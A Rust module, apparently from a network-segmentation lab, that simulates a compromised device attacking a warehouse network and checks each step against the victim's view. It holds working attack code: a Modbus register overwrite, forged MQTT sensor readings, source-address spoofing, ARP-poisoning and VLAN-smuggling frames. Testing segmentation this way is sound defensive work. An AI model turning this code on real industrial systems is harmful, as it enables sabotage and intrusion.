//! A device turns hostile. Each step counts as a success only when the victim felt it: the PLC's
//! register changed, the file server logged the download, the operator panel showed the forgery.

use std::fmt;
use std::fs;
use std::io::{self, Write};
use std::net::{Ipv4Addr, Ipv6Addr, SocketAddrV6, UdpSocket};
use std::thread;
use std::time::Duration;

use model::Mac;

use crate::estate::{GATEWAY, GATEWAY_MAC, SUBNET};
use crate::probe::{self, Probe, Verdict, Witness};
use crate::{Device, Lab, LabError, client, sys, traffic, wait};

/// What an attack achieved.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Report {
    /// The device that was taken over.
    pub device: String,
    /// Addresses that answered its scan of the first hundred of the subnet.
    pub found: Vec<Ipv4Addr>,
    /// Every port it tried on every machine.
    pub probes: Vec<Verdict>,
    /// What it did to them.
    pub steps: Vec<Step>,
}

/// One thing it tried to do.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Step {
    /// What: `overwrite a register of the PLC`.
    pub what: &'static str,
    /// To whom.
    pub victim: &'static str,
    /// The victim felt it.
    pub success: bool,
}

impl Report {
    /// Ports that its packets arrived at.
    pub fn reached(&self) -> usize {
        self.probes.iter().filter(|verdict| verdict.outcome.passed()).count()
    }

    /// Ports where something served it.
    pub fn served(&self) -> usize {
        self.probes.iter().filter(|v| v.outcome == probe::Outcome::Reached).count()
    }

    /// Machines that any of its packets arrived at.
    pub fn machines(&self) -> usize {
        let passed = self.probes.iter().filter(|verdict| verdict.outcome.passed());
        passed.map(|verdict| &verdict.probe.to).collect::<std::collections::BTreeSet<_>>().len()
    }

    /// Steps that succeeded.
    pub fn successes(&self) -> usize {
        self.steps.iter().filter(|step| step.success).count()
    }
}

impl fmt::Display for Step {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.what, if self.success { "succeeded" } else { "failed" })
    }
}

/// Takes over `device` (`camera`) and does everything it can think of, in about three seconds.
pub fn take_over(lab: &Lab, device: &str) -> Result<Report, LabError> {
    let attacker = lab.device(device)?;
    let found = scan(attacker)?;
    let mut probes: Vec<_> =
        probe::everything(lab).into_iter().filter(|probe| probe.from == attacker.name).collect();
    let others = lab.devices().iter().filter(|other| other.name != attacker.name);
    probes.extend(others.map(|other| Probe::tcp(attacker.name, other.name, 22)));
    let probes = probe::matrix(lab, &probes)?;
    // At once, as malware does; and a fenced attacker runs into timeouts only once.
    let tries: [fn(&Lab, &Device) -> Done; 9] =
        [overwrite, steal, charge, look_into_till, forge, pretend, poison, smuggle, over_ipv6];
    let steps = thread::scope(|scope| {
        let running = tries.map(|step| scope.spawn(move || step(lab, attacker)));
        let ended = running.into_iter().map(|step| match step.join() {
            Ok(step) => step,
            Err(_) => Err(LabError::failed("attack", "a thread panicked")),
        });
        ended.collect::<Result<Vec<_>, _>>()
    })?;
    Ok(Report { device: device.to_owned(), found, probes, steps })
}

/// Tries port 80 of the first hundred addresses of the subnet; who answers, is found. (All
/// namespaces of a machine share one neighbour table of a thousand entries.)
fn scan(attacker: &Device) -> Result<Vec<Ipv4Addr>, LabError> {
    let [a, b, c, _] = SUBNET.0.octets();
    let addresses =
        (1..=SCANNED).map(|host| Ipv4Addr::new(a, b, c, host)).filter(|ip| *ip != attacker.ip);
    let scan = || probe::answering(addresses.clone(), 80);
    let found = attacker.netns.enter(scan).map_err(|error| LabError::failed("scan", error))?;
    Ok(found)
}

const SCANNED: u8 = 100;

type Done = Result<Step, LabError>;

fn step(what: &'static str, victim: &'static str, success: bool) -> Done {
    Ok(Step { what, victim, success })
}

/// A task of the attacker; that it fails is what the victim's view tells.
fn try_it<T: Send>(attacker: &Device, work: impl FnOnce() -> io::Result<T> + Send) -> bool {
    attacker.netns.enter(work).is_ok_and(|result| result.is_ok())
}

fn overwrite(lab: &Lab, attacker: &Device) -> Done {
    let plc = lab.device("plc")?.ip;
    let before = lab.registers.get(5);
    let value = before.map_or(0xdead, |value| value.wrapping_add(0x1111)).to_be_bytes();
    let request = [6, 0, 5, value[0], value[1]];
    try_it(attacker, || client::modbus(plc, &[&request]));
    step("overwrite a register of the PLC", "plc", lab.registers.get(5) != before)
}

fn steal(lab: &Lab, attacker: &Device) -> Done {
    let request = "GET /projects/packing-line.stu";
    let success = fetched(lab, attacker, "files", 8080, request)?;
    step("download the PLC project from the file server", "files", success)
}

fn charge(lab: &Lab, attacker: &Device) -> Done {
    let success = fetched(lab, attacker, "payments", 8080, "POST /v1/authorise")?;
    step("call the payment service", "payments", success)
}

fn look_into_till(lab: &Lab, attacker: &Device) -> Done {
    step("read the till's status", "till", fetched(lab, attacker, "till", 5015, "GET /status")?)
}

/// The victim's own log has a request from the attacker that was not there before.
fn fetched(
    lab: &Lab,
    attacker: &Device,
    victim: &'static str,
    port: u16,
    request: &str,
) -> Result<bool, LabError> {
    let from_us = || {
        let entries = lab.log.entries();
        let ours = |client: std::net::IpAddr| client == std::net::IpAddr::V4(attacker.ip);
        entries
            .iter()
            .filter(|e| e.server == victim && ours(e.client.ip()) && e.what == request)
            .count()
    };
    let (ip, before) = (lab.device(victim)?.ip, from_us());
    try_it(attacker, || client::http(ip, port, request, victim, "curl/7.88.1", "", ""));
    Ok(from_us() > before)
}

/// Publishes under the name of the cold-room sensor; the operator panel is the victim.
fn forge(lab: &Lab, attacker: &Device) -> Done {
    let payload = "{\"t\":-18.0,\"note\":\"forged\"}";
    let shown = || lab.said(traffic::SUBSCRIBER).matches("forged").count();
    let before = shown();
    let (broker, topic) = (lab.device("broker")?.ip, "warehouse/coldroom/1/temperature");
    try_it(attacker, || traffic::publish_to(broker, "coldroom-1", topic, payload));
    let deadline = wait::now() + Duration::from_millis(700);
    let success = wait::until(deadline, || shown() > before)?;
    step("publish a reading as the cold-room sensor", "hmi", success)
}

/// Sends to the PLC with the operator panel's address as source.
fn pretend(lab: &Lab, attacker: &Device) -> Done {
    let (plc, hmi) = (lab.device("plc")?, lab.device("hmi")?.ip);
    let witness = Witness::start(plc)?;
    let mut port = None;
    let _ = attacker.netns.enter(|| {
        let socket = sys::udp_as(hmi)?;
        port = Some(socket.local_addr()?.port());
        socket.send_to(b"spoofed", (plc.ip, 502)).map(|_| ())
    });
    wait::pass(Duration::from_millis(200))?;
    let seen = witness.stop();
    let success = port.is_some_and(|port| seen.contains(&(17, hmi, port, 502)));
    step("reach the PLC with the operator panel's address", "plc", success)
}

/// Tells the till that the gateway's address is at the attacker's interface.
fn poison(lab: &Lab, attacker: &Device) -> Done {
    let till = lab.device("till")?;
    // The till must know the gateway, or it ignores unasked answers.
    let _ = till.netns.enter(|| client::resolve("plc.warehouse.example"));
    let believes = |mac: Mac| {
        let table = till.netns.enter(|| fs::read_to_string("/proc/thread-self/net/arp"));
        let table = table.and_then(|text| text).unwrap_or_default();
        let row = |line: &str| {
            let mut words = line.split_whitespace();
            words.next() == Some(&GATEWAY.to_string()) && words.nth(2) == Some(&mac.to_string())
        };
        table.lines().any(row)
    };
    let tell = |mac: Mac| {
        let frame = arp_answer(till.mac, till.ip, mac, GATEWAY);
        send_frame(attacker, &frame);
    };
    // A fresh entry is locked for a second.
    let deadline = wait::now() + Duration::from_millis(1_500);
    let success = wait::until(deadline, || {
        tell(attacker.mac);
        believes(attacker.mac)
    })?;
    if success {
        // The demo goes on with a working till: undo it.
        let deadline = wait::now() + Duration::from_millis(1_500);
        wait::until(deadline, || {
            tell(GATEWAY_MAC);
            believes(GATEWAY_MAC)
        })?;
    }
    step("take the gateway's place for the till (ARP)", "till", success)
}

/// Sends to the PLC inside an 802.1Q tag, which filters on IP headers overlook.
fn smuggle(lab: &Lab, attacker: &Device) -> Done {
    let plc = lab.device("plc")?;
    let witness = Witness::start(plc)?;
    let mut frame = plc.mac.0.to_vec();
    frame.extend(attacker.mac.0);
    // VLAN 1; IPv4, 28 bytes, TTL 64, UDP; checksums are not looked at by a witness.
    frame.extend([0x81, 0, 0, 1, 8, 0]);
    frame.extend([0x45, 0, 0, 28, 0, 0, 0, 0, 64, 17, 0, 0]);
    frame.extend(attacker.ip.octets());
    frame.extend(plc.ip.octets());
    for word in [SMUGGLED, 502, 8, 0u16] {
        frame.extend(word.to_be_bytes());
    }
    send_frame(attacker, &frame);
    wait::pass(Duration::from_millis(200))?;
    let success = witness.stop().contains(&(17, attacker.ip, SMUGGLED, 502));
    step("reach the PLC inside a VLAN tag", "plc", success)
}

/// Source port that tells the smuggled packet from others.
const SMUGGLED: u16 = 40_502;

fn send_frame(attacker: &Device, frame: &[u8]) {
    let interface = attacker.interface;
    // That it fails is what the victim's view tells.
    let _ = attacker.netns.enter(|| {
        let mut socket = fs::File::from(sys::packet_socket(interface, false)?);
        socket.write_all(frame)
    });
}

/// Sends to the PLC's IPv6 link-local address, which nobody thought of; a refusal has arrived.
fn over_ipv6(lab: &Lab, attacker: &Device) -> Done {
    let plc = link_local(lab.device("plc")?.mac);
    let interface = attacker.interface;
    let refused = attacker.netns.enter(|| {
        let index = fs::read_to_string("/proc/thread-self/net/if_inet6").ok().and_then(|table| {
            let row = table.lines().find(|line| line.ends_with(interface))?.to_owned();
            u32::from_str_radix(row.split_whitespace().nth(1)?, 16).ok()
        });
        let socket = UdpSocket::bind((Ipv6Addr::UNSPECIFIED, 0))?;
        socket.set_read_timeout(Some(Duration::from_millis(500)))?;
        socket.connect(SocketAddrV6::new(plc, 502, 0, index.unwrap_or(0)))?;
        socket.send(b"hello")?;
        socket.recv(&mut [0; 16])
    });
    let refused =
        refused.is_ok_and(|r| r.is_err_and(|e| e.kind() == io::ErrorKind::ConnectionRefused));
    step("reach the PLC over IPv6", "plc", refused)
}

/// fe80::/64 with the modified EUI-64 of the link address (RFC 4291 appendix A).
fn link_local(mac: Mac) -> Ipv6Addr {
    let [a, b, c, d, e, f] = mac.0;
    let low = u64::from_be_bytes([a ^ 2, b, c, 0xff, 0xfe, d, e, f]);
    Ipv6Addr::from((0xfe80u128 << 112) | u128::from(low))
}

/// An unasked ARP reply (RFC 826): `ip` is at `mac`.
fn arp_answer(to_mac: Mac, to_ip: Ipv4Addr, mac: Mac, ip: Ipv4Addr) -> Vec<u8> {
    let mut out = to_mac.0.to_vec();
    out.extend(mac.0);
    out.extend([8, 6, 0, 1, 8, 0, 6, 4, 0, 2]);
    out.extend(mac.0);
    out.extend(ip.octets());
    out.extend(to_mac.0);
    out.extend(to_ip.octets());
    out
}
